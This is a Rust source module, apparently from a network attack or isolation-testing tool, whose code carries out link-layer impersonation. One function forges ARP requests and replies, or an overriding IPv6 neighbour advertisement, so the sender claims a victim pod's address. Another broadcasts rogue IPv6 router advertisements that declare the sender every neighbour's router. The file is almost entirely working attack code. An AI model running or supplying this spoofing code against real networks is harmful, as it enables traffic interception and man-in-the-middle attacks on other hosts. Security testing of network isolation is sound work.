//! Being somebody else on the same link: address resolution and router advertisements that lie.

use std::{
    io,
    net::{IpAddr, Ipv6Addr},
};

use crate::{
    Technique,
    attack::{Attack, Outcome},
    packet::{self, protocol},
    raw::{self, Frames},
};

pub const TECHNIQUES: &[Technique] = &[
    ("takeover", takeover),
    ("router-advertisement", router_advertisement),
];

const EVERYBODY: [u8; 6] = [0xff; 6];
/// All nodes, as hardware and as IPv6 address.
const ALL_NODES: ([u8; 6], Ipv6Addr) = (
    [0x33, 0x33, 0, 0, 0, 1],
    Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1),
);

/// Says that a granted pod's address is here, then speaks with it.
fn takeover(attack: &Attack) -> io::Result<Outcome> {
    let frames = Frames::new(attack)?;
    let victim = attack.needed_victim()?;
    match (victim, attack.needed_via()?) {
        (IpAddr::V4(victim), IpAddr::V4(gateway)) => {
            for operation in [1, 2] {
                let (own, asked) = (frames.hardware(), victim.octets());
                // To all about itself, and to the gateway as an answer.
                for target in [asked, gateway.octets()] {
                    let arp = [
                        &[0, 1, 8, 0, 6, 4, 0, operation][..],
                        &own,
                        &asked,
                        &attack.next_hop,
                        &target,
                    ]
                    .concat();
                    frames.send_frame(&packet::ethernet(EVERYBODY, own, 0x0806, &arp))?;
                }
            }
        }
        (IpAddr::V6(victim), IpAddr::V6(_)) => {
            let own = frames.hardware();
            // Overrides what was known; the link-layer address is the attacker's.
            let mut message = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
            message.extend(victim.octets());
            message.extend([2, 1]);
            message.extend(own);
            let to = ALL_NODES.1;
            let message = packet::icmp_summed(victim.into(), to.into(), message);
            let packet = packet::v6(victim, to, protocol::ICMPV6, &message);
            frames.send_frame(&packet::frame(ALL_NODES.0, own, &packet))?;
        }
        _ => return Err(io::Error::other("addresses of two families")),
    }
    frames.send(&raw::messages(attack, victim))
}

/// Says to all neighbours that it is their router.
fn router_advertisement(attack: &Attack) -> io::Result<Outcome> {
    let frames = Frames::new(attack)?;
    let own = frames.hardware();
    let IpAddr::V6(from) = attack.from else {
        return Err(io::Error::other("router advertisements are IPv6's"));
    };
    // Hop limit 64, high preference, a lifetime of half an hour.
    let mut message = vec![134, 0, 0, 0, 64, 0x08, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
    message.extend([1, 1]);
    message.extend(own);
    let message = packet::icmp_summed(from.into(), ALL_NODES.1.into(), message);
    let packet = packet::v6(from, ALL_NODES.1, protocol::ICMPV6, &message);
    for _ in 0..3 {
        frames.send_frame(&packet::frame(ALL_NODES.0, own, &packet))?;
    }
    Ok(Outcome::Sent)
}
